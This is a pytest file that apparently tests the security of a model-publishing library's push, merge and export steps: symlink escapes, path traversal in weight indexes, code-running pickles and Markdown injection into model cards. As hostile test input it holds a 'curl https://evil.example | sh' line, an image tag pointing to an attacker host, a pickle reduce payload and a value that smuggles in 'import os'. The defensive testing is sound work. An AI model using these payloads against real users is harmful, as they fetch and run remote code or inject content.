"""Nothing private is copied or uploaded from a run or a model from another person, and its words stay words."""

from __future__ import annotations

import json
import pickle
import shutil

import pytest
import torch
import yaml

from prerlkit.errors import PrerlkitError, UsageError
from prerlkit.files import is_inside, stays_in
from prerlkit.policy.weights import INDEX, Weights
from prerlkit.publish import leaks
from prerlkit.publish.card import _text
from prerlkit.publish.export import export
from prerlkit.publish.merge import merge
from prerlkit.publish.push import push


@pytest.fixture
def private(tmp_path):
    """A file that no pattern of secrets knows."""
    path = tmp_path / "home" / "notes.txt"
    path.parent.mkdir()
    path.write_text("private")
    return path


def test_push_uploads_nothing_through_links(finished, private):
    """Before: links in `export/`, and a metrics.jsonl that was one, went up with what they led to."""
    export(finished)
    assert push(finished, "me/sums", base="me/base", dry_run=True).files
    link = finished / "export" / "NOTICE.txt"
    link.symlink_to(private)
    with pytest.raises(PrerlkitError, match=r"NOTICE\.txt is a link to a file outside .* neither copied nor uploaded"):
        push(finished, "me/sums", base="me/base", dry_run=True)
    link.unlink()
    (finished / "evaluations.jsonl").unlink()
    (finished / "evaluations.jsonl").symlink_to(private)
    with pytest.raises(PrerlkitError, match=r"evaluations\.jsonl is a link"):
        push(finished, "me/sums", base="me/base", dry_run=True)


def test_merge_copies_nothing_through_links(finished, base_model, private, tmp_path):
    base = shutil.copytree(base_model, tmp_path / "sent")
    (base / "notes.txt").symlink_to(private)
    with pytest.raises(PrerlkitError, match=r"notes\.txt is a link"):
        merge(finished, tmp_path / "merged", base=str(base))
    assert not (tmp_path / "merged").exists()


def test_the_links_of_the_hubs_cache_are_inside(tmp_path, private):
    snapshot = tmp_path / "models--a--b" / "snapshots" / "0123"
    blobs = tmp_path / "models--a--b" / "blobs"
    snapshot.mkdir(parents=True)
    blobs.mkdir()
    (blobs / "45").touch()
    (snapshot / "config.json").symlink_to("../../blobs/45")
    (snapshot / "evil.json").symlink_to(private)
    assert stays_in(snapshot / "config.json", snapshot)
    assert not stays_in(snapshot / "evil.json", snapshot)
    shutil.rmtree(blobs)
    blobs.symlink_to(private.parent)  # a cache that was sent
    (snapshot / "other.json").symlink_to("../../blobs/notes.txt")
    assert not stays_in(snapshot / "other.json", snapshot)


@pytest.mark.parametrize("name", ["../home/model.safetensors", "/etc/model.safetensors", "a/../../x.safetensors"])
def test_an_index_of_weights_names_only_files_of_its_folder(name, tmp_path):
    assert not is_inside(name)
    (tmp_path / INDEX).write_text(json.dumps({"weight_map": {"a": name}}))
    with pytest.raises(PrerlkitError, match="which is not in its folder"):
        Weights(tmp_path)


@pytest.mark.parametrize("text", ["[" * 200_000, "[]", '{"weight_map": [1]}', "\x00"])
def test_an_index_that_is_none_is_one_message(text, tmp_path):
    (tmp_path / INDEX).write_text(text)
    with pytest.raises(PrerlkitError, match="is no index of weights"):
        Weights(tmp_path)


class _Runs:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_weights_that_are_a_pickle_of_code_run_nothing(tmp_path):
    marker = tmp_path / "it-ran"
    (tmp_path / "pytorch_model.bin").write_bytes(pickle.dumps(_Runs(marker)))
    with pytest.raises(PrerlkitError, match="can't be read"):
        Weights(tmp_path)
    torch.save({"a": _Runs(marker)}, tmp_path / "pytorch_model.bin")
    with pytest.raises(PrerlkitError, match="can't be read"):
        Weights(tmp_path)
    assert not marker.exists()


@pytest.mark.parametrize("head", [b"", b"\xff" * 8, b"\xff" * 7 + b"\x7f", b"\x01"])
def test_a_head_of_weights_that_says_it_is_endless_is_read_in_part(head, tmp_path):
    (tmp_path / "a.safetensors").write_bytes(head + b"hf_" + b"a1B2" * 9)
    found = leaks._text("a.safetensors", tmp_path / "a.safetensors")
    assert len(found) <= 100


def test_what_others_wrote_into_a_run_is_text_in_the_card(finished, tmp_path):
    """Before: an evaluation's name was Markdown in a card under the name of who pushes it."""
    evil = "x |\n\n## Load it\n```sh\ncurl https://evil.example | sh\n```\n<img src=//evil.example> [here](//evil)"
    lines = [json.loads(line) for line in (finished / "evaluations.jsonl").read_text().splitlines()]
    for line in lines:
        line.pop("crc32")
    (finished / "evaluations.jsonl").write_text("".join(json.dumps({**line, "name": evil}) + "\n" for line in lines))
    metrics = [json.loads(line) for line in (finished / "metrics.jsonl").read_text().splitlines()]
    for line in metrics:
        line.pop("crc32")
    (finished / "metrics.jsonl").write_text(
        "".join(json.dumps({**line, "stage": r"$\frac{$ _hidden"}) + "\n" for line in metrics)
    )
    (finished / "checksums.json").unlink()
    recipe = yaml.safe_load((finished / "recipe.yaml").read_text())
    recipe["description"] = evil
    (finished / "recipe.yaml").write_text(yaml.safe_dump(recipe))
    card = push(finished, "me/sums", base="me/base", dry_run=True).card
    assert card.count("\n## Load it\n") == 1
    assert "\n```sh\ncurl" not in card
    assert "<img" not in card.replace("\\<", "")
    assert card.count(_text(evil)) >= 3


@pytest.mark.parametrize("base", ['x")\nimport os  #', "a/b/c", "../x", "", "-x/y", "a b/c"])
def test_a_base_that_is_no_id_stops_a_push(base, finished):
    recipe = yaml.safe_load((finished / "recipe.yaml").read_text())
    recipe["model"]["id"] = base or "~"
    (finished / "recipe.yaml").write_text(yaml.safe_dump(recipe))
    (finished / "checksums.json").unlink()
    with pytest.raises(UsageError, match=r"is not the id of a model on the Hub|no user who downloads it"):
        push(finished, "me/sums", dry_run=True)


def test_a_base_of_absurd_sizes_is_one_message(finished, base_model):
    config = base_model / "config.json"
    good = config.read_text()
    config.write_text(json.dumps({**json.loads(good), "hidden_size": 10**9}))
    try:
        for publish in (lambda: export(finished), lambda: merge(finished)):
            with pytest.raises(UsageError, match="hidden_size is 1000000000, not a whole number"):
                publish()
    finally:
        config.write_text(good)
